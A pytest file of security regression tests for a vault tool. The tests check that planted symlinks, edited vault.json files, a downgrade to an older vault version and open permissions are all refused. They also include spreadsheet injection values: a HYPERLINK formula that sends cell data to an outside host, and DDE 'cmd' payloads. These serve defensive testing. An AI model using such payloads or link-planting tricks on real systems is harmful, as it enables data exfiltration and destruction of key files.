"""Issue 13, the local side of the trust boundary: what a hostile USB stick or
a local edit of the vault's plain files can do. Each test performs the attack
for real — a symlink on a real folder, an edited vault.json on disk, a formula
in a roster cell — and checks that it now fails harmlessly.

- finding 1: no write follows a link (receipts, exports, reports, key files,
  rotation statements, bundles; the store's own files);
- finding 2: vault.json decides nothing: an edit is refused naming the file,
  the office key lives in the encrypted store, a version 1 vault migrates,
  and export refuses an office key its settings log did not record;
- finding 8: owner-only folders and files;
- finding 9: no formulas out of the roster, report and summary workbooks.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import stat
import sys
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path

import openpyxl
import orjson
import pytest

from branchtool import demo, keys_rotation, reports
from branchtool.cli import main
from branchtool.errors import UserError
from branchtool.keyfiles import OFFICE_FORMAT, KeyFile
from branchtool.office.receipts import receipt_name
from branchtool.period import Period
from branchtool.services import roster_io
from branchtool.session import Session, UiSettings
from storage import age, fsio, minisign
from storage.errors import LockNotFile, VaultEdited
from storage.vault import SETTINGS, Vault
from tests.officekit import (
    OFFICE_PASSPHRASE,
    TODAY,
    Clock,
    enrol,
    export,
    make_branch,
    make_office,
)

POSIX = sys.platform != "win32"
FORMULA = '=HYPERLINK("http://x.cn/?"&E2,"详情")'  # fits the 40-character name


@pytest.fixture
def umask() -> Iterator[None]:
    """The usual umask (022): files would be 0644 and folders 0755 by default."""
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.fixture
def world(tmp_path: Path, umask: None) -> Iterator[dict]:
    """An office that imported branch A1's first bundle, both unlocked."""
    clock = Clock()
    office = make_office(tmp_path / "office", clock)
    branch = make_branch(tmp_path / "branch", "A1", "第一党支部", office, people=6, days=2)
    enrol(office, branch)
    [result] = office.import_paths([export(branch, tmp_path / "sent")])
    assert result.verdict == "accepted"
    yield {"office": office, "branch": branch, "tmp": tmp_path, "clock": clock}
    branch.lock()
    office.vault.close()


def plant(stick: Path, name: str, target: Path) -> list[Path]:
    """Symlinks a hostile stick holds where branchtool writes ``name``: the
    temp name earlier versions used, and the name itself."""
    links = [stick / f".{name}.tmp", stick / name]
    for link in links:
        link.symlink_to(target)
    return links


def assert_untouched(target: Path, before: bytes, written: Path) -> None:
    assert target.read_bytes() == before, "the write went through a planted link"
    assert not written.is_symlink() and written.is_file()
    if POSIX:
        assert stat.S_IMODE(written.stat().st_mode) == 0o600


# -- finding 1: no write follows a link ---------------------------------------------------
@pytest.mark.skipif(not POSIX, reason="symlinks need privileges on Windows")
def test_receipts_on_a_stick_with_a_planted_link_leave_the_office_identity_alone(
        world: dict) -> None:
    """The issue's attack: ``.A1-receipt-<date>.json.tmp -> office/identity.age``
    on the stick made ``office receipt --out stick`` overwrite the identity."""
    office, tmp = world["office"], world["tmp"]
    stick = tmp / "stick"
    stick.mkdir()
    identity = tmp / "office" / "identity.age"
    before = identity.read_bytes()
    name = receipt_name("A1", world["clock"]().date().isoformat())
    plant(stick, name, identity)
    [written] = office.write_receipts(stick)
    assert written.name == name
    assert_untouched(identity, before, written)
    assert orjson.loads(written.read_bytes())["format"] == "branchtool-receipt"
    office.vault.close()
    Vault.open(tmp / "office", OFFICE_PASSPHRASE).close()  # still opens


@pytest.mark.skipif(not POSIX, reason="symlinks need privileges on Windows")
def test_every_file_written_outside_the_vault_ignores_planted_links(world: dict) -> None:
    branch, office, tmp = world["branch"], world["office"], world["tmp"]
    target = tmp / "branch" / "signing.age"  # what an attacker would like to wreck
    before = target.read_bytes()
    stick = tmp / "stick"
    stick.mkdir()
    written: list[Path] = []

    def attempt(name: str, write: object) -> None:
        plant(stick, name, target)
        write(stick / name)  # type: ignore[operator]
        written.append(stick / name)

    attempt("roster.xlsx", lambda p: roster_io.export(branch.roster, p))
    attempt("roster.csv", lambda p: roster_io.export(branch.roster, p))
    daily = reports.build(branch, "daily", TODAY)
    attempt("daily.docx", lambda p: reports.write(daily, p))
    attempt("daily.xlsx", lambda p: reports.write(daily, p))
    from branchtool.bundles.sending import write_branch_key

    attempt("A1.pub", lambda p: write_branch_key(branch, p))
    attempt("rotation.json", lambda p: keys_rotation.write_statement(p, b"{}\n"))
    attempt("summary.xlsx", lambda p: office.export_summary(p, TODAY, "xlsx"))
    for path in written:
        assert_untouched(target, before, path)
    # a bundle is created, never replaced: a link at its name stops the export
    name = f"A1-{2:06d}-{TODAY:%Y%m%d}.bundle.age"
    (stick / name).symlink_to(target)
    with pytest.raises(UserError):
        branch.bundles.export(stick, Period(TODAY, TODAY))
    assert target.read_bytes() == before


@pytest.mark.skipif(not POSIX, reason="symlinks need privileges on Windows")
def test_a_temp_name_taken_by_a_link_fails_the_write_instead_of_following_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Even a guessed temp name does not help: it is created O_EXCL|O_NOFOLLOW."""
    target = tmp_path / "precious"
    target.write_bytes(b"keep me")
    monkeypatch.setattr(fsio.secrets, "token_hex", lambda n: "0" * (2 * n))
    (tmp_path / f".out.json.{'0' * 16}.tmp").symlink_to(target)
    with pytest.raises(FileExistsError):
        fsio.DEFAULT_IO.write_atomic(tmp_path / "out.json", b"attack")
    assert target.read_bytes() == b"keep me"
    assert not (tmp_path / "out.json").exists()


@pytest.mark.skipif(not POSIX, reason="symlinks need privileges on Windows")
def test_the_journal_is_never_opened_through_a_link(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere"
    target.write_bytes(b"")
    link = tmp_path / "journal.log"
    link.symlink_to(target)
    with pytest.raises(OSError):
        fsio.DEFAULT_IO.open_append(link)


def _vault_with_planted_lock(tmp_path: Path, plant: Callable[[Path, Path], None]
                             ) -> tuple[Path, Path, bytes]:
    """A vault whose ``lock`` was replaced by ``plant(lock, identity)``."""
    path = tmp_path / "v"
    Vault.create(path, "pw", work_factor=10).close()
    identity = path / "identity.age"
    (path / "lock").unlink()
    plant(path / "lock", identity)
    return path, identity, identity.read_bytes()


@pytest.mark.skipif(not POSIX, reason="symlinks need privileges on Windows")
@pytest.mark.parametrize("plant", ["symlink", "dangling", "hardlink", "folder", "fifo"])
def test_a_planted_lock_file_is_refused_and_nothing_is_written_through_it(
        tmp_path: Path, plant: str) -> None:
    """The lock truncates what it opens and writes its holder record: a
    ``lock`` planted as a link to ``identity.age`` would destroy the vault's
    only key, a dangling link would create a file wherever it points."""
    elsewhere = tmp_path / "created-elsewhere"

    def planted(lock: Path, identity: Path) -> None:
        if plant == "symlink":
            lock.symlink_to(identity)
        elif plant == "dangling":
            lock.symlink_to(elsewhere)
        elif plant == "hardlink":
            os.link(identity, lock)
        elif plant == "folder":
            lock.mkdir()
        else:
            os.mkfifo(lock)

    path, identity, before = _vault_with_planted_lock(tmp_path, planted)
    with pytest.raises(LockNotFile) as caught:
        Vault.open(path, "pw")
    assert caught.value.params == {"file": "lock"}
    assert identity.read_bytes() == before
    assert not elsewhere.exists()
    session = Session(path)  # the app and the CLI: one sentence naming the file
    with pytest.raises(UserError) as shown:
        session.unlock("pw")
    assert shown.value.key == "storage.lock_not_file"


@pytest.mark.skipif(not POSIX, reason="symlinks need privileges on Windows")
def test_a_planted_lock_link_in_the_cli_is_one_sentence(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path, identity, before = _vault_with_planted_lock(
        tmp_path, lambda lock, identity: lock.symlink_to(identity))
    monkeypatch.setenv("BRANCHTOOL_PASSPHRASE", "pw")
    assert main(["--lang", "en", "--data-dir", str(path), "vault", "check"]) != 0
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "lock" in err and "link" in err and "Traceback" not in err
    assert identity.read_bytes() == before
    (path / "lock").unlink()  # what the sentence says to do
    assert main(["--data-dir", str(path), "vault", "check"]) == 0
    assert stat.S_IMODE((path / "lock").lstat().st_mode) == 0o600


# -- finding 8: owner-only ------------------------------------------------------------------
def _modes(root: Path) -> dict[str, int]:
    return {str(p.relative_to(root)): stat.S_IMODE(p.lstat().st_mode)
            for p in [root, *root.rglob("*")]}


@pytest.mark.skipif(not POSIX, reason="Windows keeps the vault under the user's profile ACL")
def test_vault_folders_are_0700_and_files_0600(tmp_path: Path, umask: None) -> None:
    session = demo.build(tmp_path / "v", people=5, days=2, today=TODAY, work_factor=10)
    session.vault.compact()  # a backup set too
    session.roster.add({"name": "王五", "category": "student", "stage": "league"})
    session.lock()
    session.unlock(demo.PASSPHRASE)
    session.lock()
    modes = _modes(tmp_path / "v")
    assert any(name.startswith("backups/") for name in modes)
    wrong = {name: oct(mode) for name, mode in modes.items()
             if mode != (0o700 if (tmp_path / "v" / name).is_dir() else 0o600)
             and name != "."}
    assert modes["."] == 0o700
    assert not wrong


@pytest.mark.skipif(not POSIX, reason="Windows keeps the vault under the user's profile ACL")
def test_an_older_vault_with_open_permissions_is_narrowed_at_unlock(tmp_path: Path,
                                                                   umask: None) -> None:
    path = tmp_path / "v"
    Vault.create(path, "pw", work_factor=10).close()
    for item in [path, *path.rglob("*")]:  # what a vault made before looked like
        item.chmod(0o755 if item.is_dir() else 0o644)
    Vault.open(path, "pw").close()
    assert all(mode in (0o700, 0o600) for mode in _modes(path).values())


# -- finding 2: vault.json decides nothing --------------------------------------------------
def _attacker_office_key() -> KeyFile:
    _, recipient = age.generate_identity()
    _, public = minisign.generate_keypair()
    return KeyFile(OFFICE_FORMAT, "某学院党委办公室", recipient, public)


def _edit_vault_json(path: Path, edit: object) -> None:
    doc = orjson.loads((path / "vault.json").read_bytes())
    edit(doc)  # type: ignore[operator]
    (path / "vault.json").write_bytes(orjson.dumps(doc, option=orjson.OPT_INDENT_2))


def test_an_office_key_edited_into_vault_json_never_receives_a_bundle(
        world: dict, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """The attack: put your own age recipient where vault.json names the
    office, wait for the next export. The edit is refused at unlock with one
    sentence naming vault.json, and nothing is written."""
    branch, tmp = world["branch"], world["tmp"]
    path = branch.path
    branch.lock()
    evil = _attacker_office_key()

    def swap(doc: dict) -> None:
        office = doc["info"].get("office")
        if office:  # where the office key used to live
            office["recipient"] = evil.recipient
        else:  # the attacker's best try now: put it back there
            doc["info"]["office"] = evil.to_dict()

    _edit_vault_json(path, swap)
    usb = tmp / "usb"
    usb.mkdir()
    monkeypatch.setenv("BRANCHTOOL_PASSPHRASE", demo.PASSPHRASE)
    code = main(["--lang", "en", "--data-dir", str(path), "export", "--out", str(usb)])
    err = capsys.readouterr().err
    assert code != 0
    assert list(usb.iterdir()) == []
    assert err.count("\n") == 1 and "vault.json" in err and "Traceback" not in err
    with pytest.raises(VaultEdited):
        Vault.open(path, demo.PASSPHRASE)


@pytest.mark.parametrize("edit", ["idle", "name", "borders", "own_key", "downgrade", "mac"])
def test_any_edit_of_vault_json_is_refused(tmp_path: Path, edit: str) -> None:
    path = tmp_path / "v"
    session = Session(path, work_factor=10)
    session.create("A1", "第一党支部", "a good passphrase", check_passphrase=False)
    session.save_settings(UiSettings(idle_minutes=5))
    session.lock()
    _, other = age.generate_identity()

    def change(doc: dict) -> None:
        if edit == "idle":  # switch the auto-lock off, as version 1 kept it
            doc["info"].setdefault("ui", {})["idle_minutes"] = 240
        elif edit == "name":
            doc["info"]["branch_name"] = "别的支部"
        elif edit == "borders":  # a display preference is under the MAC too
            doc["info"]["ui"]["borders"] = "ascii"
        elif edit == "own_key":
            doc["recipient"] = other
        elif edit == "downgrade":  # pose as a version 1 file to be "migrated"
            doc.pop("mac")
            doc["version"] = 1
            doc["info"]["office"] = _attacker_office_key().to_dict()
        else:
            doc["mac"] = "0" * 64

    _edit_vault_json(path, change)
    with pytest.raises(VaultEdited) as caught:
        Vault.open(path, "a good passphrase")
    assert caught.value.params["file"] == "vault.json"
    with pytest.raises(UserError) as shown:
        session.unlock("a good passphrase")
    assert shown.value.key == "storage.vault_edited"


def _as_version_1(path: Path, passphrase: str, office: KeyFile, idle: int) -> None:
    """Turn a vault into what the previous version made: vault.json without a
    MAC holding the office key and idle minutes in plaintext, and a store
    that never heard of encrypted settings (its history keeps the writes)."""
    with Vault.open(path, passphrase) as vault:
        for name in list(vault.settings()):
            vault.set_setting(name, None)

    def old(doc: dict) -> None:
        doc.pop("mac", None)
        doc.pop("moved", None)
        doc["version"] = 1
        doc["info"]["office"] = office.to_dict()
        doc["info"]["ui"] = {"language": "zh-CN", "theme": "textual-dark",
                             "idle_minutes": idle, "borders": "ascii"}

    _edit_vault_json(path, old)


def test_a_version_1_vault_migrates_at_first_unlock(world: dict) -> None:
    branch, office = world["branch"], world["office"]
    path, key = branch.path, office.key()
    branch.lock()
    _as_version_1(path, demo.PASSPHRASE, key, idle=7)
    with Vault.open(path, demo.PASSPHRASE) as vault:  # first unlock: migrated
        compact_before = Vault.backups(path)
        assert vault.setting("office")["recipient"] == key.recipient
        assert vault.setting("idle_minutes") == 7
    doc = orjson.loads((path / "vault.json").read_bytes())
    assert doc["version"] == 2 and "office" not in doc["info"]
    assert "idle_minutes" not in doc["info"]["ui"] and "mac" in doc
    assert doc["info"]["ui"]["borders"] == "ascii"  # a display preference stays, under the MAC
    assert key.recipient.encode() not in (path / "vault.json").read_bytes()
    branch.unlock(demo.PASSPHRASE)
    assert branch.settings().idle_minutes == 7
    assert branch.settings().borders == "ascii"
    assert export(branch, world["tmp"] / "next").exists()  # the office still gets it
    branch.lock()
    # data/ restored from before the migration: the settings come back with it
    Vault.restore(path, compact_before[0].name)
    with Vault.open(path, demo.PASSPHRASE) as vault:
        assert vault.setting("office")["recipient"] == key.recipient


def test_a_version_1_office_key_edited_before_the_upgrade_is_not_sent_to(
        world: dict) -> None:
    """vault.json of the previous version edited before its first unlock
    with this one: the migrated key is not the one the encrypted settings
    log recorded, so export refuses."""
    branch = world["branch"]
    path = branch.path
    branch.lock()
    _as_version_1(path, demo.PASSPHRASE, _attacker_office_key(), idle=10)
    branch.unlock(demo.PASSPHRASE)
    usb = world["tmp"] / "usb"
    usb.mkdir()
    with pytest.raises(UserError) as caught:
        branch.bundles.export(usb, Period(TODAY, TODAY))
    assert caught.value.key == "export.office_key_not_logged"
    assert list(usb.iterdir()) == []


def test_the_office_key_and_idle_minutes_are_not_in_plain_files(world: dict) -> None:
    branch, office = world["branch"], world["office"]
    branch.set_setting("idle_minutes", 3)
    recipient = office.key().recipient.encode()
    for item in branch.path.rglob("*"):
        if item.is_file():
            assert recipient not in item.read_bytes(), item
    assert SETTINGS in branch.vault.partitions()


# -- finding 9: no formulas out -----------------------------------------------------------------
def _survey(path: Path) -> Path:
    """A class list the way a student-filled survey exports it: what each
    student typed is a string cell (``t="s"``), formula-looking or not."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["序号", "姓名", "性别", "人员类别", "政治面貌", "手机号码"])
    sheet.append([1, FORMULA, "男", "学生", "团员", "13800138000"])
    sheet.append([2, "@SUM(1+1)*cmd|' /C calc'!A0", "女", "学生", "群众", "+8613900139000"])
    sheet.append([3, "-2+3", "女", "学生", "群众", None])
    for row in sheet.iter_rows(min_row=2):
        for cell in row:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # typed text, not a formula of the survey's own
    book.save(path)
    return path


def _formulas(xlsx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        return [n for n in sheets if b"<f>" in book.read(n) or b"<f " in book.read(n)]


def test_a_formula_typed_into_a_survey_is_text_in_every_export(
        tmp_path: Path, world: dict) -> None:
    branch = world["branch"]
    sheet, mapping = roster_io.read(_survey(tmp_path / "问卷导出.xlsx"))
    plan = roster_io.plan(branch.roster, sheet, mapping)
    roster_io.commit(branch.roster, plan)
    assert any(p["name"] == FORMULA for p in branch.roster.people())

    out = tmp_path / "out.xlsx"
    roster_io.export(branch.roster, out)
    assert _formulas(out.read_bytes()) == []
    book = openpyxl.load_workbook(out)
    cells = [c for row in book.active.iter_rows() for c in row if c.value]
    hostile = [c for c in cells if str(c.value).startswith(("=", "@", "-", "+"))]
    assert len(hostile) == 3 and all(c.data_type == "s" and c.quotePrefix for c in hostile)
    assert any(c.value == FORMULA for c in hostile)  # the text itself is kept

    out_csv = tmp_path / "out.csv"
    roster_io.export(branch.roster, out_csv)
    with out_csv.open(encoding="utf-8-sig", newline="") as handle:
        fields = [f for row in csv.reader(handle) for f in row]
    assert f"'{FORMULA}" in fields and "'-2+3" in fields
    assert not [f for f in fields if f.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_no_formula_in_the_office_summary_from_a_hostile_branch_name(
        world: dict, tmp_path: Path) -> None:
    office = world["office"]
    branch = office.trust.require("A1")
    branch["name"] = "=cmd|' /C calc'!A0"
    office.vault.partition("branches").replace("A1", branch)
    path = office.export_summary(tmp_path / "summary.xlsx", TODAY, "xlsx")
    assert _formulas(path.read_bytes()) == []


def test_no_formula_in_a_report_workbook(world: dict) -> None:
    from branchtool.reports.document import Document, Section, Table
    from branchtool.reports.xlsx_writer import render

    doc = Document(kind="daily", title="=1+1", date=dt.date(2026, 11, 20), issuer="@x",
                   sections=[Section("-s", [Table("t", ["=h"], [["=A1*2", 3]])])])
    data = render(doc)
    assert _formulas(data) == []
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert "=A1*2" in values and 3 in values
